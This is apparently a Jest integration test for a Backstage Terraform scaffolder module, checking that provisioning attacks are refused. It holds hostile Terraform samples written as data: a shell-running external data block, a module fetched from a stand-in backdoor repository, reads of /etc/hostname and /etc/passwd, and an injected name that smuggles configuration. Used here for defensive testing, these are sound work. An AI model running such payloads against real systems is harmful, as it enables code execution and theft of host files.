import {
  createMockDirectory,
  mockCredentials,
  mockServices,
  startTestBackend,
} from '@backstage/backend-test-utils';
import { Entity } from '@backstage/catalog-model';
import catalogPlugin from '@backstage/plugin-catalog-backend';
import scaffolderEntityModel from '@backstage/plugin-catalog-backend-module-scaffolder-entity-model';
import permissionPlugin from '@backstage/plugin-permission-backend';
import scaffolderPlugin from '@backstage/plugin-scaffolder-backend';
import terraformModule from '@kler/plugin-scaffolder-backend-module-terraform';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import request from 'supertest';
import {
  authWithActor,
  catalogTestHooks,
  eventually,
  userInfoWithGroups,
} from './__testUtils__/testBackend';
import catalogTrustedEnvironments from './modules/catalogTrustedEnvironments';
import permissionPolicy from './modules/permissionPolicy';

jest.setTimeout(180_000);

/**
 * The attacks of issue 12 ("Provisioning lets no one in"), each against the
 * real catalog, scaffolder and permission backends with KLER's policy, and the
 * real Terraform CLI behind a wrapper that records every call and the AWS key
 * it was given. Each was written to fail on the code before the fix.
 */

const REPOSITORY_ROOT = path.resolve(
  // Tests always run from source, where __dirname is this folder.
  // eslint-disable-next-line no-restricted-syntax
  __dirname,
  '../../..',
);
const FIXTURE_MODULE = path.join(
  REPOSITORY_ROOT,
  'templates/terraform-fixtures',
);
const TERRAFORM = process.env.TERRAFORM_BINARY ?? 'terraform';

const ADA = 'user:default/ada'; // platform team: runs Terraform, production too
const SAM = 'user:default/sam'; // shop team: runs Terraform, not in production
const ALICE = 'user:default/alice'; // web team: runs no Terraform
const GROUPS: Record<string, string[]> = {
  [ADA]: ['group:default/platform-team'],
  [SAM]: ['group:default/shop-team'],
  [ALICE]: ['group:default/web-team'],
};

const DEVELOPMENT = '111111111111';
const PRODUCTION = '222222222222';
const KEYS = {
  [DEVELOPMENT]: 'AKIAKLERDEVATTACK001',
  [PRODUCTION]: 'AKIAKLERPRODATTACK02',
};

function environment(
  name: string,
  accountId: string,
  tier: string,
  namespace = 'default',
): Entity {
  return {
    apiVersion: 'backstage.io/v1alpha1',
    kind: 'Resource',
    metadata: {
      name,
      namespace,
      annotations: {
        'kler.io/environment-tier': tier,
        'kler.io/aws-account-id': accountId,
        'kler.io/aws-region': 'eu-west-1',
        'kler.io/ecs-cluster': `kler-${name}`,
      },
    },
    spec: { type: 'environment', lifecycle: tier, owner: 'platform-team' },
  };
}

/**
 * A template over the offline fixture module: a new environment in the
 * account the user picks. Its `name` parameter has no pattern on purpose (a
 * careless catalog author): values reach Terraform as data anyway.
 */
const newEnvironmentTemplate = {
  apiVersion: 'scaffolder.backstage.io/v1beta3',
  kind: 'Template',
  metadata: { name: 'fixture-environment', namespace: 'default' },
  spec: {
    type: 'environment',
    parameters: [
      {
        required: ['name', 'awsAccountId'],
        properties: {
          name: { type: 'string' },
          awsAccountId: { type: 'string', pattern: '^[0-9]{12}$' },
        },
      },
    ],
    steps: [
      {
        id: 'target',
        action: 'kler:environment:resolveTarget',
        input: {
          awsAccountId: '${{ parameters.awsAccountId }}',
          awsRegion: 'eu-west-1',
        },
      },
      {
        id: 'code',
        action: 'fetch:plain',
        input: { url: './terraform', targetPath: 'environment' },
      },
      {
        id: 'variables',
        action: 'kler:environment:setVariables',
        input: {
          workingDirectory: 'environment',
          variables: { name: '${{ parameters.name }}' },
        },
      },
      {
        id: 'check',
        action: 'kler:terraform:check',
        input: { workingDirectory: 'environment' },
      },
      {
        id: 'plan',
        action: 'kler:terraform:plan',
        input: {
          workingDirectory: 'environment',
          awsAccountId: '${{ parameters.awsAccountId }}',
          awsRegion: 'eu-west-1',
        },
      },
      {
        id: 'apply',
        action: 'kler:terraform:apply',
        input: {
          planFile: '${{ steps.plan.output.planFile }}',
          planSha256: '${{ steps.plan.output.planSha256 }}',
          skipReason: '${{ steps.plan.output.skipReason }}',
          allowDestroy: false,
        },
      },
      {
        id: 'publish',
        if: '${{ steps.apply.output.applied }}',
        action: 'kler:git:publishLocal',
        input: {
          sourcePath: 'environment',
          targetDirectory: 'environments/${{ parameters.name }}',
        },
      },
    ],
  },
};

/** A change to an environment of the catalog, picked by entity ref. */
const changeEnvironmentTemplate = {
  apiVersion: 'scaffolder.backstage.io/v1beta3',
  kind: 'Template',
  metadata: { name: 'fixture-change', namespace: 'default' },
  spec: {
    type: 'environment',
    parameters: [
      {
        required: ['environment'],
        properties: {
          environment: {
            type: 'string',
            pattern: '^resource:[a-z0-9-]+/[a-z0-9-]+$',
          },
        },
      },
    ],
    steps: [
      {
        id: 'code',
        action: 'fetch:plain',
        input: { url: './terraform', targetPath: 'environment' },
      },
      {
        id: 'plan',
        action: 'kler:terraform:plan',
        input: {
          workingDirectory: 'environment',
          environment: '${{ parameters.environment }}',
        },
      },
      {
        id: 'apply',
        action: 'kler:terraform:apply',
        input: {
          planFile: '${{ steps.plan.output.planFile }}',
          planSha256: '${{ steps.plan.output.planSha256 }}',
          allowDestroy: false,
        },
      },
    ],
  },
};

const json = (...docs: object[]) =>
  docs.map(doc => JSON.stringify(doc)).join('\n---\n');

describe('provisioning attacks on the real backend (issue 12)', () => {
  const trusted = createMockDirectory();
  const attacker = createMockDirectory();
  const work = fs.mkdtempSync(path.join(os.tmpdir(), 'kler-attacks-'));
  const callsLog = path.join(work, 'terraform-calls.log');
  const canary = path.join(work, 'pwned');
  const repository = path.join(work, 'environments.git');
  const refused = new Map<string, string>();
  let server: Parameters<typeof request>[0];

  const as = (user: string) => mockCredentials.user.header(user);

  /** Terraform calls since the last reset: `<command> key=<AWS key or none>`. */
  const terraformCalls = () =>
    fs.existsSync(callsLog)
      ? fs.readFileSync(callsLog, 'utf8').trim().split('\n').filter(Boolean)
      : [];

  beforeAll(async () => {
    const wrapper = path.join(work, 'terraform');
    fs.writeFileSync(
      wrapper,
      [
        '#!/bin/sh',
        `echo "$1 key=\${AWS_ACCESS_KEY_ID:-none}" >> '${callsLog}'`,
        `exec '${TERRAFORM}' "$@"`,
      ].join('\n'),
      { mode: 0o755 },
    );
    const templateFiles = (template: object) => ({
      'template.yaml': json(template),
      terraform: Object.fromEntries(
        fs
          .readdirSync(FIXTURE_MODULE, { recursive: true, withFileTypes: true })
          .filter(entry => entry.isFile() && entry.name.endsWith('.tf'))
          .map(entry => {
            const file = path.join(entry.parentPath, entry.name);
            return [
              path.relative(FIXTURE_MODULE, file),
              fs.readFileSync(file, 'utf8'),
            ];
          }),
      ),
    });
    trusted.setContent({
      'all.yaml': json({
        apiVersion: 'backstage.io/v1alpha1',
        kind: 'Location',
        metadata: { name: 'kler' },
        spec: {
          targets: [
            './environments.yaml',
            './new-environment/template.yaml',
            './change-environment/template.yaml',
          ],
        },
      }),
      'environments.yaml': json(
        environment('production', PRODUCTION, 'production'),
        environment('development', DEVELOPMENT, 'development'),
        // The catalog says development, the account is production's.
        environment('mislabelled', PRODUCTION, 'development'),
      ),
      'new-environment': templateFiles(newEnvironmentTemplate),
      'change-environment': templateFiles(changeEnvironmentTemplate),
    });
    // An existing environment in the environments repository.
    fs.mkdirSync(path.join(work, 'seed/environments/development'), {
      recursive: true,
    });
    fs.writeFileSync(
      path.join(work, 'seed/environments/development/main.tf'),
      '# the real development environment\n',
    );
    const git = (...args: string[]) =>
      execFileSync('git', args, { cwd: path.join(work, 'seed') });
    git('init', '--quiet', '--initial-branch', 'main');
    git('add', '.');
    git(
      '-c',
      'user.name=test',
      '-c',
      'user.email=test@kler.invalid',
      'commit',
      '--quiet',
      '-m',
      'seed',
    );
    execFileSync('git', [
      'clone',
      '--quiet',
      '--bare',
      path.join(work, 'seed'),
      repository,
    ]);

    const allYaml = trusted.resolve('all.yaml');
    ({ server } = await startTestBackend({
      features: [
        catalogPlugin,
        scaffolderEntityModel,
        catalogTrustedEnvironments,
        catalogTestHooks(refused),
        scaffolderPlugin,
        terraformModule,
        permissionPlugin,
        permissionPolicy,
        userInfoWithGroups(GROUPS),
        authWithActor,
        mockServices.rootConfig.factory({
          data: {
            permission: { enabled: true },
            catalog: {
              processingInterval: { seconds: 1 },
              rules: [
                { allow: ['Component', 'Resource', 'Location', 'Template'] },
              ],
              locations: [{ type: 'file', target: allYaml }],
            },
            aws: {
              accounts: Object.entries(KEYS).map(([accountId, key]) => ({
                accountId,
                accessKeyId: key,
                secretAccessKey: `secret-of-${accountId}`,
              })),
            },
            kler: {
              permissions: {
                terraformRunners: [
                  'group:default/platform-team',
                  'group:default/shop-team',
                ],
                productionProvisioners: ['group:default/platform-team'],
                administrators: ['group:default/platform-team'],
              },
              terraform: {
                binary: wrapper,
                timeoutMinutes: 2,
                accounts: [
                  { accountId: DEVELOPMENT, tier: 'development' },
                  { accountId: PRODUCTION, tier: 'production' },
                ],
              },
              environments: {
                trustedLocations: [`file:${allYaml}`],
                localRepository: repository,
              },
            },
          },
        }),
      ],
    }));

    // The catalog has read the trusted location.
    await eventually(
      async () => {
        const response = await request(server)
          .get('/api/catalog/entities/by-name/template/default/fixture-change')
          .set('Authorization', as(ADA));
        return response.status === 200 ? true : undefined;
      },
      () =>
        `the trusted templates never reached the catalog; refused: ${[
          ...refused.values(),
        ].join('; ')}`,
    );
  });

  beforeEach(() => {
    fs.rmSync(callsLog, { force: true });
  });

  afterAll(() => {
    fs.rmSync(work, { recursive: true, force: true });
  });

  async function runTask(user: string, templateRef: string, values: object) {
    const created = await request(server)
      .post('/api/scaffolder/v2/tasks')
      .set('Authorization', as(user))
      .send({ templateRef, values });
    expect(created.status).toBe(201);
    const id = created.body.id as string;
    const task = await eventually(
      async () => {
        const response = await request(server)
          .get(`/api/scaffolder/v2/tasks/${id}`)
          .set('Authorization', as(user));
        return ['completed', 'failed', 'cancelled'].includes(
          response.body.status,
        )
          ? response.body
          : undefined;
      },
      () => `task ${id} did not end`,
      120_000,
    );
    const events = await request(server)
      .get(`/api/scaffolder/v2/tasks/${id}/events`)
      .set('Authorization', as(user));
    const log = (events.body as { body: { message?: string } }[])
      .map(event => event.body.message ?? '')
      .join('\n');
    return { status: task.status as string, log };
  }

  function repositoryHead() {
    return execFileSync('git', ['rev-parse', 'main'], { cwd: repository })
      .toString()
      .trim();
  }

  describe("1. a dry-run with the requester's own Terraform", () => {
    const hostile = [
      '# Reads the backend host and runs a program there during plan.',
      'data "external" "pwn" {',
      `  program = ["sh", "-c", "touch ${canary}; echo {}"]`,
      '}',
      '',
      'module "remote" {',
      '  source = "git::https://git.evil.example/terraform-backdoor.git"',
      '}',
      '',
      'resource "terraform_data" "exfiltrate" {',
      '  input = file("/etc/hostname")',
      '}',
      '',
    ].join('\n');

    function dryRun(user: string, files: Record<string, string>) {
      return request(server)
        .post('/api/scaffolder/v2/dry-run')
        .set('Authorization', as(user))
        .send({
          template: {
            apiVersion: 'scaffolder.backstage.io/v1beta3',
            kind: 'Template',
            metadata: { name: 'mine' },
            spec: {
              type: 'service',
              steps: [
                {
                  id: 'files',
                  action: 'fetch:plain',
                  input: { url: './tf', targetPath: 'tf' },
                },
                {
                  id: 'check',
                  action: 'kler:terraform:check',
                  input: { workingDirectory: 'tf' },
                },
                {
                  id: 'plan',
                  action: 'kler:terraform:plan',
                  input: {
                    workingDirectory: 'tf',
                    awsAccountId: PRODUCTION,
                    awsRegion: 'eu-west-1',
                  },
                },
              ],
            },
          },
          values: {},
          secrets: {},
          directoryContents: Object.entries(files).map(([file, text]) => ({
            path: `tf/${file}`,
            base64Content: Buffer.from(text).toString('base64'),
          })),
        });
    }

    it('is refused to a user who may not run Terraform', async () => {
      const response = await dryRun(ALICE, { 'main.tf': hostile });
      expect(response.status).toBe(403);
      expect(JSON.stringify(response.body)).toContain(
        'Unauthorized action: kler:terraform:check',
      );
      expect(terraformCalls()).toEqual([]);
      expect(fs.existsSync(canary)).toBe(false);
    });

    it('never reaches terraform init for a provisioner, and the answer names each refused block', async () => {
      const response = await dryRun(ADA, { 'main.tf': hostile });
      const body = JSON.stringify(response.body);
      expect(body).toContain('main.tf:2: data \\"external\\" \\"pwn\\"');
      expect(body).toContain('module \\"remote\\"');
      expect(body).toContain('file(\\"/etc/hostname\\")');
      expect(terraformCalls()).toEqual([]);
      expect(fs.existsSync(canary)).toBe(false);
    });

    it('runs a clean configuration offline, without credentials, and plans nothing', async () => {
      const files = Object.fromEntries(
        [
          'main.tf',
          'variables.tf',
          'outputs.tf',
          'modules/greeting/main.tf',
        ].map(file => [
          file,
          fs.readFileSync(path.join(FIXTURE_MODULE, file), 'utf8'),
        ]),
      );
      const response = await dryRun(ADA, files);
      expect(response.status).toBe(200);
      const calls = terraformCalls();
      expect(calls.map(call => call.split(' ')[0])).toEqual([
        'fmt',
        'init',
        'validate',
      ]);
      expect(calls.every(call => call.endsWith('key=none'))).toBe(true);
      const log = JSON.stringify(response.body.log);
      expect(log).toContain('dry run: nothing is planned in a dry run');
      expect(log).not.toContain(KEYS[PRODUCTION]);
    });
  });

  describe('2. the production guard and the account', () => {
    it('refuses production to a Terraform runner without the production permission, whatever the template says', async () => {
      const { status, log } = await runTask(
        SAM,
        'template:default/fixture-environment',
        { name: 'sneaky', awsAccountId: PRODUCTION },
      );
      expect(status).toBe('failed');
      expect(log).toContain(
        `user:default/sam may not apply from the portal: applying in production account ${PRODUCTION} needs the permission environments.provision.production`,
      );
      expect(terraformCalls()).toEqual([]);
    });

    it('lets the same runner work in development, with development credentials only', async () => {
      const { status, log } = await runTask(
        SAM,
        'template:default/fixture-environment',
        { name: 'sam-dev', awsAccountId: DEVELOPMENT },
      );
      expect(log).toContain('Apply complete!');
      expect(status).toBe('completed');
      const calls = terraformCalls();
      expect(calls).toContain(`apply key=${KEYS[DEVELOPMENT]}`);
      expect(calls.some(call => call.includes(KEYS[PRODUCTION]))).toBe(false);
    });

    it('lets a production provisioner apply to production, with production credentials', async () => {
      const { status } = await runTask(
        ADA,
        'template:default/fixture-environment',
        { name: 'ada-prod', awsAccountId: PRODUCTION },
      );
      expect(status).toBe('completed');
      expect(terraformCalls()).toContain(`apply key=${KEYS[PRODUCTION]}`);
    });

    it('refuses an account the config does not list, before any credentials are fetched', async () => {
      const { status, log } = await runTask(
        ADA,
        'template:default/fixture-environment',
        { name: 'elsewhere', awsAccountId: '333333333333' },
      );
      expect(status).toBe('failed');
      expect(log).toContain(
        'AWS account 333333333333 is not one of kler.terraform.accounts',
      );
      expect(terraformCalls()).toEqual([]);
    });

    it('takes the tier from the config, not from what the catalog entry claims', async () => {
      const { status, log } = await runTask(
        SAM,
        'template:default/fixture-change',
        { environment: 'resource:default/mislabelled' },
      );
      expect(status).toBe('failed');
      expect(log).toContain(
        `resource:default/mislabelled says it is development, but its account ${PRODUCTION} is production`,
      );
      expect(terraformCalls()).toEqual([]);
    });
  });

  describe('3. publishing', () => {
    it('never replaces an existing environment, even after a successful apply', async () => {
      const before = repositoryHead();
      const { status, log } = await runTask(
        ADA,
        'template:default/fixture-environment',
        { name: 'development', awsAccountId: DEVELOPMENT },
      );
      expect(status).toBe('failed');
      expect(log).toContain('environments/development already exists on main');
      expect(repositoryHead()).toBe(before);
    });

    it('publishes a new environment once its apply succeeded', async () => {
      const { status } = await runTask(
        ADA,
        'template:default/fixture-environment',
        { name: 'fresh', awsAccountId: DEVELOPMENT },
      );
      expect(status).toBe('completed');
      const files = execFileSync(
        'git',
        ['ls-tree', '-r', '--name-only', 'main', 'environments/fresh'],
        { cwd: repository },
      ).toString();
      expect(files).toContain('environments/fresh/terraform.tfvars.json');
      expect(files).not.toContain('.kler-terraform');
      expect(files).not.toContain('tfstate');
    });
  });

  describe('4. values that look like code', () => {
    it('stay data: an injected name is a string in Terraform, not configuration', async () => {
      const injected = `x" } \n resource "terraform_data" "pwn" { input = file("/etc/hostname") } # \${file("/etc/passwd")}`;
      const { status, log } = await runTask(
        ADA,
        'template:default/fixture-environment',
        { name: injected, awsAccountId: DEVELOPMENT },
      );
      // The publish step refuses the name as a directory; everything before
      // it treated the value as a plain string.
      expect(log).toContain('Plan: 2 to add');
      expect(log).not.toContain('terraform_data.pwn');
      expect(log).not.toContain('root:');
      expect(status).toBe('failed');
      expect(log).toContain('targetDirectory must be a relative path');
    });
  });

  describe('5. an environment registered from elsewhere', () => {
    it('never reaches the catalog, so Terraform cannot be pointed at it', async () => {
      attacker.setContent({
        'evil.yaml': json(
          environment('production', DEVELOPMENT, 'development', 'evil'),
        ),
      });
      const registered = await request(server)
        .post('/api/catalog/locations')
        .set('Authorization', as(ALICE))
        .send({ type: 'file', target: attacker.resolve('evil.yaml') });
      expect(registered.status).toBe(201);
      await eventually(
        async () =>
          refused.has('resource:evil/production') ? true : undefined,
        () => 'the attacker location was never processed',
      );
      const environments = await request(server)
        .get('/api/catalog/entities')
        .query({ filter: 'kind=resource,spec.type=environment' })
        .set('Authorization', as(ADA));
      expect(
        (environments.body as Entity[])
          .map(entity => `${entity.metadata.namespace}/${entity.metadata.name}`)
          .sort(),
      ).toEqual([
        'default/development',
        'default/mislabelled',
        'default/production',
      ]);

      const { status, log } = await runTask(
        SAM,
        'template:default/fixture-change',
        { environment: 'resource:evil/production' },
      );
      expect(status).toBe('failed');
      expect(log).toContain(
        'resource:evil/production is not an environment in the catalog',
      );
      expect(terraformCalls()).toEqual([]);
    });
  });
});
